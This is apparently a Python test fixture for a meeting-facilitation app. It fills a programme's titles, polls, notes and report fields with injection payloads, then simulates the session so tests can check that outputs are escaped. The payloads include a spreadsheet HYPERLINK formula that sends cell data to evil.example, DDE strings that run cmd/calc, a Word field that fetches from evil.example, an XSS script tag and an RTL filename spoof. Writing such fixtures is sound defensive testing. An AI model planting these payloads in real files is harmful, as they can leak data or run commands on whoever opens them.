"""A meeting in which every text that anybody can type tries to be something else."""

from typing import Any

from sessions.programme import Programme
from tests.helpers.lines import GENERAL
from tests.helpers.play import MODERATOR
from tests.helpers.programmes import small
from tests.helpers.report import Told

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"ver")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\uff1d1+1",
    "\u00a0 =1+1",
    "uno\n=2+2",
    "uno;=1+1;dos",
    "uno,=1+1,dos",
    'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"',
    '{ INCLUDEPICTURE "http://evil.example/a.png" }',
    '<w:fldSimple w:instr="DDE cmd calc"><w:r><w:t>x</w:t></w:r></w:fldSimple>',
    "<script>alert(1)</script>",
    "&lt;b&gt; ]]> <!-- & \"comillas\" 'simples'",
    "http://evil.example",
    "{until} {0} %s %(x)s",
    "&P &[Page] &&",
    "\u202etxt.exe\u2066",
    "a\x00b\x07c\ufffed\ufdd0",
    "W" * 300,
    "\u0627\u0644\u0644\u062c\u0648\u0621 \u1230\u120b\u121d \U0001f468\u200d\U0001f469\u200d\U0001f467",
)
SENSITIVE = "una persona a la que se reconocería"
OF_A_RESERVED_SESSION = "lo que se dijo a puerta cerrada"


def poisoned() -> Programme:
    options = [{"id": f"O-{n}", "text": text} for n, text in enumerate(PAYLOADS)]
    bad = {"es": PAYLOADS[0], "en": PAYLOADS[2], "pt": PAYLOADS[12]}
    headings = [{"id": f"h{n}", "title": text} for n, text in enumerate(PAYLOADS[:12])]
    inside = {"question": OF_A_RESERVED_SESSION, "answer": "single", "options": options}
    day = {"day": "2025-09-24", "minutes": 60}
    return small(
        title=bad,
        place=PAYLOADS[12],
        sessions=[
            {"id": "votes", "code": "S1", "title": PAYLOADS[0], "start": "09:00", "regime": "open", **day}
            | {"questions": list(PAYLOADS[:12])}
            | {
                "activities": [
                    _activity("single", "poll", question=bad, answer="single", options=options),
                    _activity("words", "poll", question=PAYLOADS[4], answer="text", max_length=500),
                    _activity("order", "prioritise", question=PAYLOADS[5], method="rank", top=3, options=options[:12])
                    | {"secrecy": "secret"},
                ]
            },
            {
                "id": "pads",
                "code": "S2",
                "title": PAYLOADS[13],
                "start": "10:00",
                "format": "tables",
                "tables": 2,
                **day,
            }
            | {"activities": [_activity("notes", "notes", question=PAYLOADS[12], headings=headings)]},
            {"id": "doors", "code": "S3", "title": "Relatoría", "start": "11:00", "regime": "reserved", **day}
            | {"questions": [OF_A_RESERVED_SESSION]}
            | {
                "activities": [
                    _activity("shut", "poll", **inside) | {"title": OF_A_RESERVED_SESSION},
                    _activity("shut-notes", "notes", question=OF_A_RESERVED_SESSION),
                ]
            },
        ],
    )


def _activity(id_: str, kind: str, **setup: Any) -> dict[str, Any]:
    return {"id": id_, "code": id_.upper(), "kind": kind, "title": f"{PAYLOADS[0]} {id_}", "setup": setup}


def played_out(*, closes: bool = True) -> Told:
    """The meeting with all its payloads voted, written and revealed."""
    play = Told(poisoned())
    seats = [seat.id for seat in play.meeting.seats.values() if seat.delegation != "mexico"]
    play.comes(seats)
    voters = [seat for seat in seats if not seat.startswith("unhcr")]
    play.does(MODERATOR, "start_session", session="votes")
    play.runs("single", {seat: {"choices": [f"O-{n}"]} for n, seat in enumerate(voters)})
    texts = [PAYLOADS[n] for n in (0, 1, 5, 8, 9, 10, 12, 18, 20)]
    play.runs("words", {seat: {"text": text} for seat, text in zip(voters, texts, strict=True)})
    play.runs("order", {seat: {"ranking": ["O-0", "O-1", "O-2"]} for seat in voters})
    for activity in ("single", "words", "order"):
        play.reveals(activity)
    play.does(MODERATOR, "start_session", session="pads")
    play.does(MODERATOR, "open_activity", activity="notes")
    entries = [{"heading": f"h{n % 12}", "text": text} for n, text in enumerate(PAYLOADS)]
    hidden = {"heading": "h0", "text": SENSITIVE, "flags": ["sensitive"]}
    play.writes("notes", "t1", *entries, hidden)
    play.writes("notes", "t2", {"heading": "h1", "text": "Una nota."}, hidden, why="exported")
    play.does(MODERATOR, "close_activity", activity="notes", round=1)
    play.seals("notes")
    play.reveals("notes")
    for number, text in enumerate(PAYLOADS):
        words = {"output": text[:300], "institution": text[:300], "remarks": text, "target": text[:120]}
        fields = {
            "activity": text[:200],
            "sources": [{"sort": "entry", "id": "notes.t1.e0", "why": "promote"}],
            **words,
        }
        play.does(GENERAL, "add_line", line=f"l-{number}", session="votes", fields=fields)
    play.does(MODERATOR, "start_session", session="doors")
    play.runs("shut", {seat: {"choices": ["O-0"]} for seat in voters})
    play.reveals("shut")
    play.does(MODERATOR, "open_activity", activity="shut-notes")
    play.writes("shut-notes", "plenary", {"heading": "agreement", "text": OF_A_RESERVED_SESSION})
    play.does(MODERATOR, "close_activity", activity="shut-notes", round=1)
    if closes:
        play.seals("shut-notes")
        play.does(MODERATOR, "close_meeting")
    return play
